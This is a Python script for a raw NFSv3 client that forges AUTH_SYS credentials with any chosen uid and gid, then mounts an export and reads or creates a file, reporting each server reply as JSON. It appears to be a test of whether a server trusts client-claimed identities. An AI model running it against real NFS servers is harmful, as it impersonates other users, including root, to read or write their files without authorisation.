"""A raw NFSv3 client that claims any uid (AUTH_SYS), as a user's own program could.

Run in a container: python3 nfs_forge.py SERVER EXPORT NAME/NAME UID GID PORT ACTION
  PORT    the local port to call from (0: any the kernel gives)
  ACTION  read (LOOKUP each name, READ the last) or create (LOOKUP the names but the last,
          CREATE the last)
Prints one JSON object: how far it got, and the server's answer to each call.
"""
import json
import socket
import struct
import sys

MOUNT_PROGRAM, MOUNT_VERSION, MOUNT_PORT = 100005, 3, 20048
NFS_PROGRAM, NFS_VERSION, NFS_PORT = 100003, 3, 2049
MNT, LOOKUP, READ, CREATE = 1, 3, 6, 8


class Denied(Exception):
    """The server refused the call itself (MSG_DENIED), before the procedure ran."""


def opaque(data):
    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)


def auth_sys(uid, gid):
    body = struct.pack(">I", 0) + opaque(b"forger") + struct.pack(">III", uid, gid, 1) + \
        struct.pack(">I", gid)
    return struct.pack(">I", 1) + opaque(body)


class Reader:
    def __init__(self, data):
        self.data, self.at = data, 0

    def u32(self):
        (value,) = struct.unpack_from(">I", self.data, self.at)
        self.at += 4
        return value

    def u64(self):
        (value,) = struct.unpack_from(">Q", self.data, self.at)
        self.at += 8
        return value

    def opaque(self):
        length = self.u32()
        value = self.data[self.at:self.at + length]
        self.at += length + (-length % 4)
        return value

    def post_op_attr(self):
        if self.u32():
            self.at += 84  # fattr3


def connect(server, port, local_port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(30)
    # The MOUNT call's connection from the same port may still be in TIME_WAIT.
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", local_port))
    s.connect((server, port))
    return s


def call(sock, xid, program, version, procedure, credential, arguments):
    message = struct.pack(">IIIIII", xid, 0, 2, program, version, procedure) + credential + \
        struct.pack(">II", 0, 0) + arguments
    sock.sendall(struct.pack(">I", 0x80000000 | len(message)) + message)
    reply = b""
    while True:
        header = receive(sock, 4)
        (mark,) = struct.unpack(">I", header)
        reply += receive(sock, mark & 0x7FFFFFFF)
        if mark & 0x80000000:
            break
    r = Reader(reply)
    r.u32(), r.u32()  # xid, REPLY
    if r.u32() != 0:  # MSG_DENIED
        kind = r.u32()
        raise Denied({"rejected": "AUTH_ERROR" if kind == 1 else "RPC_MISMATCH",
                      "auth_stat": r.u32() if kind == 1 else None})
    r.u32(), r.opaque()  # verifier
    accept = r.u32()
    if accept != 0:
        raise Denied({"rejected": f"accept_stat {accept}", "auth_stat": None})
    return r


def receive(sock, count):
    data = b""
    while len(data) < count:
        chunk = sock.recv(count - len(data))
        if not chunk:
            raise ConnectionError("the server closed the connection")
        data += chunk
    return data


def main():
    server, export, path, uid, gid, local_port, action = sys.argv[1:8]
    uid, gid, local_port = int(uid), int(gid), int(local_port)
    names = path.split("/")
    credential = auth_sys(uid, gid)
    result = {"steps": []}
    try:
        with connect(server, MOUNT_PORT, local_port) as sock:
            r = call(sock, 1, MOUNT_PROGRAM, MOUNT_VERSION, MNT, credential, opaque(export.encode()))
            status = r.u32()
            result["steps"].append(["MNT", status])
            if status != 0:
                return result
            handle = r.opaque()
        with connect(server, NFS_PORT, local_port) as sock:
            last = len(names) - (1 if action == "create" else 0)
            for xid, name in enumerate(names[:last], start=2):
                r = call(sock, xid, NFS_PROGRAM, NFS_VERSION, LOOKUP, credential,
                         opaque(handle) + opaque(name.encode()))
                status = r.u32()
                result["steps"].append(["LOOKUP " + name, status])
                if status != 0:
                    return result
                handle = r.opaque()
            if action == "read":
                r = call(sock, 100, NFS_PROGRAM, NFS_VERSION, READ, credential,
                         opaque(handle) + struct.pack(">QI", 0, 4096))
                status = r.u32()
                result["steps"].append(["READ", status])
                if status == 0:
                    r.post_op_attr()
                    r.u32(), r.u32()  # count, eof
                    result["content"] = r.opaque().decode(errors="replace")
            else:
                # UNCHECKED, and a mode of 0644 in the sattr3 (set_it TRUE, mode; the rest unset).
                attributes = struct.pack(">IIIIIII", 1, 0o644, 0, 0, 0, 0, 0)
                r = call(sock, 100, NFS_PROGRAM, NFS_VERSION, CREATE, credential,
                         opaque(handle) + opaque(names[-1].encode()) + struct.pack(">I", 0) +
                         attributes)
                result["steps"].append(["CREATE " + names[-1], r.u32()])
    except Denied as denied:
        result["denied"] = denied.args[0]
    except OSError as error:
        result["error"] = f"{type(error).__name__}: {error}"
    return result


if __name__ == "__main__":
    print(json.dumps(main()))
